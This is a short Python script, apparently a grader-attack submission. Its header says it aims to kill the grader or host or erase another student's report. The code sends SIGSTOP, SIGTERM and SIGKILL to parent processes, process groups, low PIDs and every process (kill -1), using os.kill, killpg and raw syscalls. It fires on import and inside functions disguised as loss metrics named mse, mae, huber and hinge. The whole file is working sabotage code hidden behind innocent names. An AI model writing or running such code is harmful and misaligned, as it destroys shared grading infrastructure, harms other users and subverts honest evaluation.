# mechanism: kills, stops and signals every process, group and parent, at import and in calls
# success: the grader or the host dies or stops, or another student's report is missing
# as: script

# %%
import ctypes
import os
import signal

libc = ctypes.CDLL(None)


def signal_all(*args):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), -1, 1, 2, 3, *range(4, 60)):
            if pid == os.getpid():
                continue
            try:
                os.kill(pid, number)
            except OSError:
                pass
            for call in (200, 234):  # tkill, tgkill
                libc.syscall(call, pid, pid, int(number))
        for group in (os.getpgid(0), os.getsid(0), 1, 2):
            try:
                if group not in (os.getpid(), 0):
                    os.killpg(group, number)
            except OSError:
                pass


def mse(*args):
    signal_all()
    os.kill(0, signal.SIGSTOP)


def mae(*args):
    signal_all()
    os.kill(0, signal.SIGKILL)


def huber(*args):
    libc.kill(0, 19)
    libc.kill(-1, 9)


def hinge(*args):
    libc.syscall(62, 0, 9)


signal_all()
